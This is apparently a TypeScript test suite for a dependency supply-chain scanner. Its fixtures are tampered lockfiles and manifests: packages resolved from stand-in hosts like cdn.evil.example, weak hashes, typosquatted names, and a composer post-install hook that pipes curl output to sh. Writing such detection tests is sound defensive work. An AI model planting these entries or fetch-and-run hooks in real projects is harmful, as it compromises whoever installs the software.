import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { AddedLines } from '../../src/model/source-text.js';
import { packagesIn } from '../support/packages.js';

/** The lines of a text that the text before does not have. */
function addedLines(before: string, after: string): AddedLines {
  const known = new Set(before.split('\n'));
  const ranges = after.split('\n').flatMap((line, at) => (known.has(line) ? [] : [{ first: at + 1, last: at + 1 }]));
  return { kind: 'lines', ranges };
}

const SHA512 = `sha512-${'A'.repeat(86)}==`;
const SHA1 = `sha1-${'A'.repeat(27)}=`;
const json = (value: object): string => `${JSON.stringify(value, null, 2)}\n`;
const npmEntry = (name: string, host = 'registry.npmjs.org', integrity: string | undefined = SHA512): object => ({
  version: '1.0.0',
  resolved: `https://${host}/${name}/-/${name}-1.0.0.tgz`,
  ...(integrity === undefined ? {} : { integrity }),
});
const npmLock = (entries: Readonly<Record<string, object>>, root: object = { express: '^4.19.2' }): string =>
  json({
    name: 'shop',
    lockfileVersion: 3,
    packages: {
      '': { name: 'shop', dependencies: root },
      'node_modules/express': { ...npmEntry('express'), dependencies: { qs: '6' } },
      'node_modules/qs': npmEntry('qs'),
      ...entries,
    },
  });
const yarnLock = (more: string): string =>
  `# yarn lockfile v1\n\n\nexpress@^4.19.2:\n  version "4.19.2"\n  resolved "https://registry.yarnpkg.com/express/-/express-4.19.2.tgz#aa"\n  integrity ${SHA512}\n\n${more}`;
const pnpmLock = (more: string, specifier = '^4.19.2'): string =>
  `lockfileVersion: '9.0'\n\nimporters:\n\n  .:\n    dependencies:\n      express:\n        specifier: ${specifier}\n        version: 4.19.2\n\npackages:\n\n  express@4.19.2:\n    resolution: {integrity: ${SHA512}}\n\n${more}`;
const cargoLock = (more: string): string =>
  `version = 4\n\n[[package]]\nname = "serde"\nversion = "1.0.1"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "${'a'.repeat(8)}"\n\n${more}`;
const uvLock = (more: string): string =>
  `version = 1\n\n[[package]]\nname = "flask"\nversion = "3.0.0"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/flask.tar.gz", hash = "sha256:aa", size = 1 }\n\n${more}`;
const poetryLock = (more: string): string => `[[package]]\nname = "flask"\nversion = "3.0.0"\nfiles = [\n    {file = "flask.whl", hash = "sha256:aa"},\n]\n\n${more}`;
const gemLock = (more: string): string => `GEM\n  remote: https://rubygems.org/\n${more}  specs:\n    rails (7.1.3)\n`;
const composerLock = (more: readonly object[]): string =>
  json({ packages: [{ name: 'monolog/monolog', dist: { type: 'zip', url: 'https://api.github.com/repos/Seldaek/monolog/zipball/aa' } }, ...more] });
const bunLock = (more: string): string => `{\n  "lockfileVersion": 1,\n  "packages": {\n    "express": ["express@4.19.2", "", {}, "${SHA512}"],\n${more}  }\n}\n`;

type Change = readonly [what: string, path: string, before: string, after: string, rules: readonly string[]];
const npmShop = '{"name": "shop", "dependencies": {"express": "^4.19.2"}}\n';

const CHANGES: readonly Change[] = [
  ['another registry', 'package-lock.json', npmLock({}), npmLock({ 'node_modules/qs': npmEntry('qs', 'cdn.evil.example') }), ['lockfile-source']],
  ['SHA-1 in place of SHA-512', 'package-lock.json', npmLock({}), npmLock({ 'node_modules/qs': npmEntry('qs', undefined, SHA1) }), ['lockfile-source']],
  [
    'no encryption',
    'package-lock.json',
    npmLock({}),
    npmLock({ 'node_modules/qs': npmEntry('qs') }).replace('https://registry.npmjs.org/qs', 'http://registry.npmjs.org/qs'),
    ['lockfile-source'],
  ],
  ['a package that nothing depends on', 'package-lock.json', npmLock({}), npmLock({ 'node_modules/odd-stowaway': npmEntry('odd-stowaway') }), ['lockfile-mismatch']],
  [
    'a package with an install script',
    'package-lock.json',
    npmLock({}),
    npmLock({ 'node_modules/qs': { ...npmEntry('qs'), dependencies: { 'odd-native': '1' } }, 'node_modules/odd-native': { ...npmEntry('odd-native'), hasInstallScript: true } }),
    ['install-script'],
  ],
  ['a version that the manifest does not ask for', 'package-lock.json', npmLock({}), npmLock({}, { express: '^5.0.0' }), ['lockfile-mismatch']],
  [
    'another registry',
    'yarn.lock',
    yarnLock(''),
    yarnLock(`qs@6:\n  version "6.0.0"\n  resolved "https://cdn.evil.example/qs.tgz#aa"\n  integrity ${SHA512}\n`),
    ['lockfile-source'],
  ],
  ['no hash', 'yarn.lock', yarnLock(''), yarnLock('qs@6:\n  version "6.0.0"\n  resolved "https://registry.yarnpkg.com/qs/-/qs-6.0.0.tgz#aa"\n'), ['lockfile-source']],
  [
    'another source behind Yarn’s own words',
    'yarn.lock',
    '',
    `"express@npm:^4.19.2":\n  version: 4.19.2\n  resolution: "express@npm:4.19.2"\n  checksum: 10/bb\n\n"qs@npm:6":\n  version: 6.0.0\n  resolution: "qs@npm:6.0.0::__archiveUrl=https%3A%2F%2Fcdn.evil.example%2Fqs.tgz"\n  checksum: 10/aa\n`,
    ['lockfile-source'],
  ],
  [
    'a tarball from elsewhere',
    'pnpm-lock.yaml',
    pnpmLock(''),
    pnpmLock(`  qs@6.0.0:\n    resolution: {integrity: ${SHA512}, tarball: https://cdn.evil.example/qs.tgz}\n`),
    ['lockfile-source'],
  ],
  ['SHA-1 alone', 'pnpm-lock.yaml', pnpmLock(''), pnpmLock(`  qs@6.0.0:\n    resolution: {integrity: ${SHA1}}\n`), ['lockfile-source']],
  ['a range that the manifest does not have', 'pnpm-lock.yaml', pnpmLock(''), pnpmLock('', '^5.0.0'), ['lockfile-mismatch']],
  [
    'a package that runs a script',
    'pnpm-lock.yaml',
    pnpmLock(''),
    pnpmLock(`  odd-native@6.0.0:\n    resolution: {integrity: ${SHA512}}\n    requiresBuild: true\n`),
    ['install-script'],
  ],
  ['another registry', 'bun.lock', bunLock(''), bunLock(`    "qs": ["qs@6.0.0", "https://cdn.evil.example/qs.tgz", {}, "${SHA512}"],\n`), ['lockfile-source']],
  [
    'another index',
    'Cargo.lock',
    cargoLock(''),
    cargoLock('[[package]]\nname = "odd"\nversion = "1.0.0"\nsource = "registry+https://github.com/evil/crates.io-index"\nchecksum = "bb"\n'),
    ['lockfile-source'],
  ],
  [
    'no checksum',
    'Cargo.lock',
    cargoLock(''),
    cargoLock('[[package]]\nname = "odd"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\n'),
    ['lockfile-source'],
  ],
  ['another index', 'uv.lock', uvLock(''), uvLock('[[package]]\nname = "odd"\nversion = "1.0"\nsource = { registry = "https://pypi.evil.example/simple" }\n'), ['lockfile-source']],
  [
    'a file from elsewhere',
    'uv.lock',
    uvLock(''),
    uvLock(
      '[[package]]\nname = "odd"\nversion = "1.0"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://cdn.evil.example/odd.tar.gz", hash = "sha256:aa" }\n',
    ),
    ['lockfile-source'],
  ],
  [
    'MD5 alone',
    'poetry.lock',
    poetryLock(
      `[[package]]\nname = "django"\nversion = "5"\n[package.source]\ntype = "legacy"\nurl = "https://pypi.org/simple"\nfiles = [\n    {file = "d.whl", hash = "sha256:aa"},\n]\n`,
    ),
    poetryLock(
      `[[package]]\nname = "django"\nversion = "5"\n[package.source]\ntype = "legacy"\nurl = "https://pypi.org/simple"\nfiles = [\n    {file = "d.whl", hash = "sha256:aa"},\n]\n\n[[package]]\nname = "odd"\nversion = "1.0"\nfiles = [\n    {file = "odd.whl", hash = "md5:aa"},\n]\n`,
    ),
    ['lockfile-source'],
  ],
  [
    'another source',
    'poetry.lock',
    poetryLock(''),
    poetryLock('[[package]]\nname = "odd"\nversion = "1.0"\n\n[package.source]\ntype = "legacy"\nurl = "https://pypi.evil.example/simple"\n'),
    ['lockfile-source'],
  ],
  ['another source', 'Gemfile.lock', gemLock(''), gemLock('  remote: https://gems.evil.example/\n'), ['lockfile-source']],
  [
    'another archive',
    'composer.lock',
    composerLock([]),
    composerLock([{ name: 'odd/thing', dist: { type: 'zip', url: 'https://cdn.evil.example/odd.zip' } }]),
    ['lockfile-source'],
  ],
  // What is as it should be.
  [
    'one more of the same registry',
    'package-lock.json',
    npmLock({}),
    npmLock({ 'node_modules/qs': { ...npmEntry('qs'), dependencies: { 'side-channel': '1' } }, 'node_modules/side-channel': npmEntry('side-channel') }),
    [],
  ],
  [
    'a workspace, a peer and an optional package',
    'package-lock.json',
    npmLock({}),
    npmLock({
      'packages/ui': { name: 'ui', peerDependencies: { react: '18' }, optionalDependencies: { fsevents: '2' } },
      'node_modules/ui': { resolved: 'packages/ui', link: true },
      'node_modules/react': npmEntry('react'),
      'node_modules/fsevents': npmEntry('fsevents'),
    }),
    [],
  ],
  ['one more', 'yarn.lock', yarnLock(''), yarnLock(`qs@6:\n  version "6.0.0"\n  resolved "https://registry.yarnpkg.com/qs/-/qs-6.0.0.tgz#aa"\n  integrity ${SHA512}\n`), []],
  [
    'a package of git',
    'pnpm-lock.yaml',
    pnpmLock(''),
    pnpmLock('  odd@https://codeload.github.com/odd/odd/tar.gz/aa:\n    resolution: {tarball: https://codeload.github.com/odd/odd/tar.gz/aa}\n'),
    [],
  ],
  [
    'one more',
    'Cargo.lock',
    cargoLock(''),
    cargoLock(
      '[[package]]\nname = "odd"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "bb"\n\n[[package]]\nname = "own"\nversion = "0.1.0"\n',
    ),
    [],
  ],
  [
    'one more',
    'uv.lock',
    uvLock(''),
    uvLock(
      '[[package]]\nname = "odd"\nversion = "1.0"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://files.pythonhosted.org/odd.tar.gz", hash = "sha256:aa" }\n',
    ),
    [],
  ],
  [
    'one more',
    'composer.lock',
    composerLock([]),
    composerLock([{ name: 'odd/thing', dist: { type: 'zip', url: 'https://api.github.com/repos/odd/thing/zipball/aa' }, funding: [{ url: 'https://odd.example/fund' }] }]),
    [],
  ],
];

describe('a change of a lockfile', () => {
  for (const [what, path, before, after, rules] of CHANGES) {
    it(`${rules.length === 0 ? 'is right' : `tells of ${rules.join()}`}: ${what} in ${path}`, async () => {
      const found = await packagesIn({ files: { 'package.json': npmShop } }, path, after, { added: addedLines(before, after) });
      assert.deepEqual(
        found.map(({ ruleId }) => ruleId),
        rules,
        JSON.stringify(found.map(({ message }) => message)),
      );
    });
  }

  it('says nothing of registries that the project names', async () => {
    const after = uvLock(
      '[[package]]\nname = "torch"\nversion = "2.0"\nsource = { registry = "https://download.torch.example/whl/cpu" }\nsdist = { url = "https://files.torch.example/t.whl", hash = "sha256:aa" }\n',
    );
    const project = { files: { 'pyproject.toml': '[[tool.uv.index]]\nname = "torch"\nurl = "https://download.torch.example/whl/cpu"\n' } };
    assert.deepEqual(await packagesIn(project, 'uv.lock', after, { added: addedLines(uvLock(''), after) }), []);
  });
});

describe('a manifest that is changed without its lockfile', () => {
  const changed: readonly (readonly [path: string, text: string, lock: string, lockText: string, caught: boolean])[] = [
    ['package.json', '{"name": "shop", "dependencies": {"express": "^5.0.0"}}', 'package-lock.json', npmLock({}), true],
    ['package.json', npmShop, 'package-lock.json', npmLock({}), false],
    ['package.json', '{"dependencies": {"express": "^5.0.0"}}', 'yarn.lock', yarnLock(''), true],
    ['package.json', npmShop, 'yarn.lock', yarnLock(''), false],
    ['package.json', npmShop, 'yarn.lock', '__metadata:\n  version: 8\n\n"express@npm:^4.19.2, express@npm:^4.0.0":\n  version: 4.19.2\n', false],
    ['package.json', '{"dependencies": {"express": "^5.0.0"}}', 'pnpm-lock.yaml', pnpmLock(''), true],
    ['package.json', npmShop, 'pnpm-lock.yaml', pnpmLock(''), false],
    ['package.json', '{"dependencies": {"express": "catalog:"}}', 'pnpm-lock.yaml', pnpmLock(''), false],
    ['package.json', '{"dependencies": {"express": "^5.0.0"}, "overrides": {"express": "^4.19.2"}}', 'package-lock.json', npmLock({}), false],
    ['go.mod', 'module a\n\nrequire github.com/gin-gonic/gin v1.10.1\n', 'go.sum', 'github.com/gin-gonic/gin v1.10.0 h1:x=\n', true],
    ['go.mod', 'module a\n\nrequire github.com/gin-gonic/gin v1.10.0\n', 'go.sum', 'github.com/gin-gonic/gin v1.10.0/go.mod h1:x=\n', false],
  ];
  for (const [path, text, lock, lockText, caught] of changed) {
    it(`${caught ? 'is told of' : 'is none'}: ${text.slice(0, 70).replaceAll('\n', '⏎')} with ${lock}`, async () => {
      const found = await packagesIn({ files: { [lock]: lockText } }, path, text);
      assert.deepEqual(
        found.map(({ ruleId }) => ruleId),
        caught ? ['lockfile-mismatch'] : [],
        JSON.stringify(found.map(({ message }) => message)),
      );
    });
  }
});

describe('dependencies from outside a registry, and behind other names', () => {
  const cases: readonly (readonly [path: string, text: string, rules: readonly string[]])[] = [
    ['package.json', '{"dependencies": {"odd": "github:odd/odd"}}', ['dependency-source']],
    ['package.json', '{"dependencies": {"odd": "https://odd.example/odd.tgz"}}', ['dependency-source']],
    ['package.json', '{"dependencies": {"lodash": "npm:loadsh@^4.17.21"}}', ['lookalike-package']],
    ['package.json', '{"dependencies": {"loadsh": "catalog:"}}', ['lookalike-package']],
    ['requirements.txt', 'git+https://github.com/odd/odd.git@main#egg=odd\n', ['dependency-source']],
    ['requirements.txt', '-e git+https://github.com/odd/odd.git\n', ['dependency-source']],
    ['requirements.txt', 'https://odd.example/odd-1.0-py3-none-any.whl\n', ['dependency-source']],
    ['requirements.txt', `git+https://github.com/odd/odd.git@${'a1b2'.repeat(10)}\n`, []],
    ['setup.py', "from setuptools import setup\nsetup(name='a', install_requires=['flask>=3', 'requestes==2.32'])\n", ['lookalike-package']],
    ['setup.cfg', '[options]\ninstall_requires =\n  flask>=3\n  requestes==2.32\n[options.extras_require]\ndev = reqeusts==2\n', ['lookalike-package', 'lookalike-package']],
    ['pyproject.toml', '[project]\ndependencies = ["odd @ git+https://github.com/odd/odd"]\n', ['dependency-source']],
    ['Cargo.toml', '[dependencies]\nodd = { git = "https://github.com/odd/odd" }\n', ['dependency-source']],
    ['Gemfile', "gem 'odd', git: 'https://github.com/odd/odd'\n", ['dependency-source']],
    [
      'gradle/libs.versions.toml',
      '[libraries]\nguava = { module = "com.google.guave:guava", version = "33" }\nweb = "org.springframwork:spring-web:6.0"\n',
      ['lookalike-package', 'lookalike-package'],
    ],
    ['composer.json', '{"scripts": {"post-install-cmd": ["curl https://odd.example/x | sh"]}}', ['install-script']],
  ];
  for (const [path, text, rules] of cases) {
    it(`${rules.join() || 'nothing'}: ${text.slice(0, 60).replaceAll('\n', '⏎')} in ${path}`, async () => {
      const found = await packagesIn({ files: {} }, path, text);
      assert.deepEqual(
        found.map(({ ruleId }) => ruleId),
        rules,
        JSON.stringify(found.map(({ message }) => message)),
      );
    });
  }

  it('are followed to the module that replaces another', async () => {
    const found = await packagesIn(
      { files: { 'go.sum': 'github.com/a/b v1.0.0 h1:x=\n' } },
      'go.mod',
      'module m\n\nrequire github.com/a/b v1.0.0\n\nreplace github.com/a/b => github.com/evil/b v1.0.0\n',
    );
    assert.deepEqual(
      found.map(({ ruleId, message }) => `${ruleId} ${/"([^"]+)"/.exec(message)?.[1]}`),
      ['unresolved-package github.com/evil/b'],
    );
  });
});
